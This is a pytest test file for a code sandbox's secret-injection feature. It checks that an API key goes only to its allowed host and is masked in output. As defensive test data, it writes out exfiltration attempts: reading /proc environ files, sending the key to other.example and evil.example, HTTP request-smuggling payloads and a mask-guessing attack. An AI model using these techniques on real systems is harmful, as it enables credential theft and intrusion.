"""M, case 1. Secrets: code and servers that work together do not get a value to the code, nor to another host."""

import base64
import logging
import socket
from collections.abc import Callable

import pytest
import pytest_asyncio

from codeact_sandbox import Secret
from tests.sandbox.network.servers import Hosts, Server, answer, read_request

from .reaching import ASK, LOOPBACK, allowed
from .subject import Subject, each_engine, one_kind

VALUE = "k3y/Of+the=User-0123456789"
MASKED = "*" * len(VALUE)
SERVE = """
    KEY = os.environ["API_KEY"]

    def tls(port, name="ok.example", protocols=("http/1.1",)):
        context = ssl.create_default_context()
        context.set_alpn_protocols(protocols)
        return context.wrap_socket(tunnel(name, port), server_hostname=name)

    def send(data, name="ok.example"):
        with tls(PORT, name) as sock:
            sock.sendall(data)
            return read(sock)

    def get(path="/", *headers, host=None, body=b"", method="GET"):
        lines = [f"{method} {path} HTTP/1.1", f"Host: {host or f'ok.example:{PORT}'}", *headers]
        if body:
            lines.append(f"Content-Length: {len(body)}")
        return send("".join(line + "\\r\\n" for line in lines).encode() + b"\\r\\n" + body)
"""


class Reflector:
    """A server that notes requests and answers what the case wants."""

    def __init__(self) -> None:
        self.requests: list[bytes] = []
        self.answers: Callable[[bytes], list[bytes]] = lambda request: [answer(request)]
        self.server: Server
        self.other: Server
        """The same server under another name, which gets no value."""

    def __call__(self, sock: socket.socket) -> None:
        self.requests.append(read_request(sock))
        for piece in self.answers(self.requests[-1]):
            sock.sendall(piece)

    @property
    def seen(self) -> bytes:
        """All requests."""
        return b"".join(self.requests)


@pytest_asyncio.fixture
async def there(subject: Subject, hosts: Hosts, monkeypatch: pytest.MonkeyPatch) -> Reflector:
    """A sandbox with a secret, and the server that gets it."""
    made = Reflector()
    made.server = hosts.serve(made, "ok.example", tls=True)
    monkeypatch.setenv("HOST_KEY", VALUE)
    monkeypatch.setenv("SSL_CERT_FILE", str(hosts.ca_file))
    secrets = {"API_KEY": Secret(env="HOST_KEY", hosts=[f"ok.example:{made.server.port} in {LOOPBACK}"])}
    made.other = hosts.serve(made, "other.example", tls=True)
    await subject.start({"secrets": secrets, "allow_domains": [allowed(made.other, "other.example")]})
    return made


async def said(subject: Subject, there: Reflector, code: str) -> str:
    """What a block prints; nothing of its result has the value."""
    prelude = ASK + SERVE.replace("PORT", str(there.server.port))
    result = await subject.run(prelude + code.replace("PORT", str(there.server.port)), timeout=20)
    assert result.exit_code == 0, result
    assert VALUE not in repr(vars(result))
    return result.output


# Case M1.
@each_engine
async def test_control_the_server_gets_the_value_and_the_code_does_not(
    subject: Subject, there: Reflector, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    look = """
    import glob
    for path in ["/proc/self/environ", "/proc/1/environ", "/proc/1/cmdline", *glob.glob("/tmp/*"), *glob.glob("/tmp/.*")]:
        try: print(b"User-0123456789" in open(path, "rb").read())
        except OSError: pass
    print(get("/", f"X-Key: {KEY}", f"Authorization: Bearer {KEY}").decode())
    """
    output = await said(subject, there, look)
    assert "True" not in output
    assert output.count(MASKED) == 2
    assert f"X-Key: {VALUE}\r\nAuthorization: Bearer {VALUE}\r\n".encode() in there.seen
    assert VALUE not in caplog.text


def chunked(data: bytes, size: int) -> list[bytes]:
    """An answer in chunks of that size, each sent on its own."""
    pieces = [data[at : at + size] for at in range(0, len(data), size)]
    chunks = [b"%x\r\n%s\r\n" % (len(piece), piece) for piece in pieces]
    return [b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n", *chunks, b"0\r\nX-Trailer: %s\r\n\r\n" % data]


# Case M1.
@one_kind
async def test_a_server_that_sends_it_back(subject: Subject, there: Reflector) -> None:
    """In other encodings and cut anywhere: see `test_a_value_is_masked_however_it_is_cut`."""
    for sent in (VALUE.encode(), base64.b64encode(b"xy" + VALUE.encode())):
        ways: dict[str, list[bytes]] = {
            "body": [answer(b"<" + sent + b">")],
            "header": [answer(b"", X_Key=sent.decode(), Location=f"https://other.example/{sent.decode()}")],
            "reason": [answer(b"", f"200 {sent.decode()}")],
            "hints": [b"HTTP/1.1 103 Early Hints\r\nLink: %s\r\n\r\n" % sent, answer(b"")],
            "until the end": [b"HTTP/1.1 200 OK\r\n\r\n" + sent],
            **{f"chunks of {size}": chunked(sent, size) for size in (1, 7, 25)},
        }
        for way, pieces in ways.items():
            there.answers = lambda _request, pieces=pieces: pieces  # type: ignore[misc]
            output = await said(subject, there, '    print(get("/", f"X-Key: {KEY}"))')
            assert "*" * 12 in output, (way, output)
            assert sent.decode()[4:12] not in output, (way, output)


# Case M1.
@one_kind
async def test_hosts_that_do_not_get_it(subject: Subject, there: Reflector) -> None:
    code = f"""
    request = f"GET / HTTP/1.1\\r\\nHost: other.example\\r\\nX-Key: {{KEY}}\\r\\n\\r\\n".encode()
    context = ssl.create_default_context(cafile="/workspace/ca.crt")
    with context.wrap_socket(tunnel("other.example", {there.other.port}), server_hostname="other.example") as sock:
        sock.sendall(request)
        print(KEY.encode() in sock.recv(65536))
    for host in ("other.example", "other.example:PORT", "ok.example", "ok.example:80", "ok.example:1:PORT", "x@ok.example:PORT"):
        print(get("/", f"X-Key: {{KEY}}", host=host)[9:12])
    print(plain("ok.example", PORT))
    try:
        tls(PORT, "evil.example")
    except AssertionError as error:
        print(error.args[0][:12])
    context = ssl.create_default_context()
    try:
        context.wrap_socket(tunnel("ok.example", PORT), server_hostname="other.example")
    except ssl.SSLError as error:
        print("UNRECOGNIZED_NAME" in str(error))
    """
    output = (await said(subject, there, code)).splitlines()
    assert output[0] == "True"
    assert output[1:7] == ["b'403'"] * 6
    assert output[7].startswith("HTTP/1.1 502 ")  # a TLS server that is asked without TLS
    assert output[8:] == ["b'HTTP/1.1 403'", "True"]
    assert VALUE.encode() not in there.seen


# Case M1.
@one_kind
async def test_upgrades_smuggling_and_other_protocols(subject: Subject, there: Reflector) -> None:
    refused = [
        "GET / HTTP/1.1\\r\\nHost: H\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\nX-Key: K\\r\\n\\r\\n",
        "GET / HTTP/1.1\\r\\nHost: H\\r\\nUpgrade: h2c\\r\\n\\r\\n",
        "PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n",
        "CONNECT other.example:443 HTTP/1.1\\r\\nHost: H\\r\\n\\r\\n",
        "GET https://other.example/ HTTP/1.1\\r\\nHost: H\\r\\n\\r\\n",
        "GET /#K HTTP/1.1\\r\\nHost: H\\r\\n\\r\\n",
        "POST / HTTP/1.1\\r\\nHost: H\\r\\nContent-Length: 3\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n",
        "POST / HTTP/1.1\\r\\nHost: H\\r\\nContent-Length: 3\\r\\nContent-Length: 4\\r\\n\\r\\nabcd",
        "GET / HTTP/1.1\\r\\nHost: H\\r\\nHost: other.example\\r\\n\\r\\n",
        "GET / HTTP/1.1\\r\\nHost: H\\r\\nX: a\\r\\n b: K\\r\\n\\r\\n",
        "GET / HTTP/1.1\\r\\nHost: H\\nX-Key: K\\r\\n\\r\\n",
        "GET / HTTP/1.1\\r\\nHost : H\\r\\n\\r\\n",
        "GET / HTTP/1.1\\r\\nHost: H\\r\\nX: a\\rX-Key: K\\r\\n\\r\\n",
        "SSH-2.0-x\\r\\n\\r\\n",
    ]
    code = "\n".join(
        f'    print(send("{each}".replace(": H", ": ok.example:PORT").replace("K", KEY).encode())[9:12])'
        for each in refused
    )
    output = (await said(subject, there, "\n" + code)).splitlines()
    assert set(output) <= {"b'400'", "b'403'"}, list(zip(refused, output, strict=True))
    assert there.requests == []
    two = """
    head = f"Host: ok.example:PORT\\r\\nX-Key: {KEY}\\r\\n"
    print(send(f"GET /a HTTP/1.1\\r\\n{head}\\r\\nGET /b HTTP/1.1\\r\\n{head}\\r\\n".encode()).count(b"200 OK"))
    with tls(PORT, protocols=("h2", "http/1.1")) as sock:
        print(sock.selected_alpn_protocol())
    """
    assert await said(subject, there, two) == "1\nhttp/1.1\n"
    assert [request.split()[1] for request in there.requests] == [b"/a"]


GUESS = """
    guesses = [b"k3y/Of+the=User-%010d" % number for number in range(123_456_000, 123_457_000)]
    before = get("/", method="POST", body=b"\\n".join(guesses[:500]))
    print(before.count(b"User-"))
    for way in WAYS:
        try:
            answer = way(b"\\n".join(guesses))
        except OSError as error:
            answer = b""
        print(b"***" in answer, answer.count(b"User-"))
    print(b"***" in get("/", f"X-Key: {KEY}"))
"""
WAYS = {
    "body": 'lambda guesses: get("/", method="POST", body=guesses)',
    "header": 'lambda guesses: get("/", "X-Key: " + guesses[15_000:].replace(b"\\n", b" ").decode())',
    "base64": 'lambda guesses: get("/", method="POST", body=base64.b64encode(guesses))',
    "alone": 'lambda guesses: get("/", method="POST", body=b"k3y/Of+the=User-0123456789")',
}


# Case M9.
@one_kind
@pytest.mark.parametrize("way", WAYS.values(), ids=WAYS)
async def test_the_mask_does_not_tell_which_guess_is_right(
    subject: Subject, there: Reflector, monkeypatch: pytest.MonkeyPatch, way: str
) -> None:
    """An answer that has a thousand guesses in it, and one of them as asterisks, would."""
    output = await said(subject, there, "\n    import base64\n" + GUESS.replace("WAYS", f"[{way}]"))
    assert output.split() == ["500", "False", "0", "False"]
    assert VALUE.encode() not in there.seen
